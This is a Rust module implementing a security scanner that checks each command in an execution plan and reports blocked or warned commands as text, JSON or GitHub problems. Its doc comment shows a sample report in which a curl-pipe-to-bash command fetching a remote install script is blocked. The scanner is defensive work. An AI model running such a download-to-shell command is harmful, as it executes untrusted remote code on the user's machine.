//! `scan plan`: the pre-execution security scan of trekexecute Phase 2.4.
//!
//! Every command a plan will have run (each step's Verify and Checkpoint,
//! the Exit Condition checklist and the Verification criteria, from
//! [`crate::plan::Plan::commands`]) is judged by the same engine as the hook
//! ([`super::judge_command`]). Text output, in file order:
//!
//! ```text
//! Security scan: Step 2 — Install the tool (Verify, line 27)
//!   Command: curl -fsSL https://example.invalid/install.sh | bash
//!   BLOCKED: Remote code execution (download-to-shell)
//! ```
//!
//! then either the `SECURITY SCAN FAILED: N dangerous command(s) found in
//! plan.` block listing each blocked command with its reason, or the
//! `Security advisories:` list of warnings, and always, when nothing is
//! blocked, `Security scan: PASS (N commands checked)`.

use std::io::{self, Write};
use std::path::Path;

use serde::Serialize;

use super::finding::{Decision, Judgement, one_line_text};
use super::render::FindingJson;
use super::rule::Severity;
use super::{Context, judge_command};
use crate::plan::{CommandKind, Plan, PlanCommand, PlanLoadError, load};
use crate::problem::Problem;

/// One plan command and its judgement.
#[derive(Debug, Clone)]
pub(super) struct Checked {
    pub command: PlanCommand,
    pub judgement: Judgement,
}

/// The scan of a whole plan.
#[derive(Debug, Clone)]
pub(crate) struct Scan {
    pub(super) file: String,
    pub(super) commands: Vec<Checked>,
    /// Each step's description, for the headers.
    pub(super) titles: Vec<(u32, String)>,
}

impl Scan {
    /// Judges every command of the plan at `path`.
    pub(super) fn of(path: &Path, ctx: &Context) -> Result<Self, PlanLoadError> {
        Ok(Self::of_plan(
            &path.display().to_string(),
            &load(path)?,
            ctx,
        ))
    }

    /// Judges every command of `plan`, read from `file`.
    pub(crate) fn of_plan(file: &str, plan: &Plan, ctx: &Context) -> Self {
        let commands = plan
            .commands()
            .into_iter()
            .map(|command| {
                let judgement = judge_command(&command.text, ctx);
                Checked { command, judgement }
            })
            .collect();
        Self {
            file: file.to_owned(),
            commands,
            titles: plan
                .steps
                .iter()
                .map(|s| (s.number, s.title.clone()))
                .collect(),
        }
    }

    fn with(&self, decision: Decision) -> impl Iterator<Item = &Checked> {
        self.commands
            .iter()
            .filter(move |c| c.judgement.decision() == decision)
    }

    /// How many commands are refused.
    pub(crate) fn blocked(&self) -> usize {
        self.with(Decision::Block).count()
    }

    /// How many commands are allowed with a warning.
    pub(crate) fn advised(&self) -> usize {
        self.with(Decision::Warn).count()
    }

    /// Each finding as a problem on its command's line of the plan, coded
    /// with the rule's id: an error for a refusal, a warning for an
    /// advisory (`scan plan --format github`).
    pub(super) fn problems(&self) -> Vec<Problem> {
        let mut problems = Vec::new();
        for checked in &self.commands {
            for finding in &checked.judgement.findings {
                // The hook's own words for it.
                let message = finding.one_line();
                let problem = match finding.severity() {
                    Severity::Block => Problem::new(finding.rule.id, message),
                    Severity::Warn => Problem::warning(finding.rule.id, message),
                };
                let problem = problem.at_line(checked.command.line);
                problems.push(match checked.command.step {
                    Some(step) => problem.in_step(step),
                    None => problem,
                });
            }
        }
        problems
    }

    /// The report `scan plan` prints.
    pub(crate) fn render_text(&self, out: &mut impl Write) -> io::Result<()> {
        for checked in &self.commands {
            for finding in &checked.judgement.findings {
                writeln!(out, "Security scan: {}", self.place(&checked.command))?;
                writeln!(out, "  Command: {}", one_line_text(&checked.command.text))?;
                writeln!(
                    out,
                    "  {}: {} ({})",
                    finding.severity().label(),
                    finding.rule.name,
                    finding.rule.id
                )?;
            }
        }
        let blocked = self.blocked();
        if blocked > 0 {
            writeln!(out)?;
            writeln!(
                out,
                "SECURITY SCAN FAILED: {blocked} dangerous command(s) found in plan."
            )?;
            writeln!(out)?;
            writeln!(out, "Blocked commands:")?;
            for checked in self.with(Decision::Block) {
                for finding in checked.judgement.with(Severity::Block) {
                    writeln!(
                        out,
                        "  {}: {} → {}: {}",
                        short_place(&checked.command),
                        one_line_text(&checked.command.text),
                        finding.rule.name,
                        one_line_text(&finding.detail)
                    )?;
                }
            }
            writeln!(out)?;
            writeln!(
                out,
                "The executor's security policy refuses these commands. A plan that holds"
            )?;
            writeln!(
                out,
                "them may have been tampered with, or a model may have invented them."
            )?;
            writeln!(out)?;
            writeln!(out, "Options:")?;
            writeln!(out, "  1. Review and fix the plan file: {}", self.file)?;
            writeln!(
                out,
                "  2. Use --dry-run to see every command without running any"
            )?;
            writeln!(
                out,
                "  3. Use --fg to run interactively (the PreToolUse hook still guards each call)"
            )?;
            return Ok(());
        }
        let advisories: Vec<&Checked> = self.with(Decision::Warn).collect();
        if !advisories.is_empty() {
            writeln!(out)?;
            writeln!(out, "Security advisories:")?;
            for checked in advisories {
                for finding in checked.judgement.with(Severity::Warn) {
                    writeln!(
                        out,
                        "  {}: {} → {} ({})",
                        short_place(&checked.command),
                        one_line_text(&checked.command.text),
                        finding.rule.name,
                        finding.instead
                    )?;
                }
            }
        }
        writeln!(
            out,
            "Security scan: PASS ({} commands checked)",
            self.commands.len()
        )
    }

    pub(super) fn render_json(&self, out: &mut impl Write) -> io::Result<()> {
        let blocked = self.blocked();
        let doc = PlanJson {
            file: &self.file,
            status: if blocked > 0 { "FAILED" } else { "PASS" },
            commands_checked: self.commands.len(),
            blocked_commands: blocked,
            commands_with_advisories: self.advised(),
            commands: self
                .commands
                .iter()
                .map(|c| CommandJson {
                    kind: c.command.kind,
                    step: c.command.step,
                    line: c.command.line,
                    command: &c.command.text,
                    decision: c.judgement.decision(),
                    findings: c.judgement.findings.iter().map(FindingJson::from).collect(),
                })
                .collect(),
        };
        serde_json::to_writer(&mut *out, &doc)?;
        writeln!(out)
    }
}

#[derive(Serialize)]
struct PlanJson<'a> {
    file: &'a str,
    status: &'static str,
    commands_checked: usize,
    blocked_commands: usize,
    commands_with_advisories: usize,
    commands: Vec<CommandJson<'a>>,
}

#[derive(Serialize)]
struct CommandJson<'a> {
    kind: CommandKind,
    step: Option<u32>,
    line: u32,
    command: &'a str,
    decision: Decision,
    findings: Vec<FindingJson<'a>>,
}

fn kind_label(kind: CommandKind) -> &'static str {
    match kind {
        CommandKind::Verify => "Verify",
        CommandKind::Checkpoint => "Checkpoint",
        CommandKind::ExitCondition => "Exit Condition",
        CommandKind::Verification => "Verification",
    }
}

/// `Step 2 — Verify (line 27)`, or `Verification (line 41)`.
impl Scan {
    /// `Step 2 — Install the tool (Verify, line 27)` (Phase 2.4's
    /// `Security scan: Step {N} — {description}`, then where), or
    /// `Verification (line 41)`.
    fn place(&self, command: &PlanCommand) -> String {
        let kind = kind_label(command.kind);
        match command.step {
            Some(step) => {
                let title = self
                    .titles
                    .iter()
                    .find(|(n, _)| *n == step)
                    .map_or("", |(_, t)| t.as_str());
                format!("Step {step} — {title} ({kind}, line {})", command.line)
            }
            None => format!("{kind} (line {})", command.line),
        }
    }
}

/// `Step 2`, or `Verification, line 41`.
fn short_place(command: &PlanCommand) -> String {
    match command.step {
        Some(step) => format!("Step {step}"),
        None => format!("{}, line {}", kind_label(command.kind), command.line),
    }
}
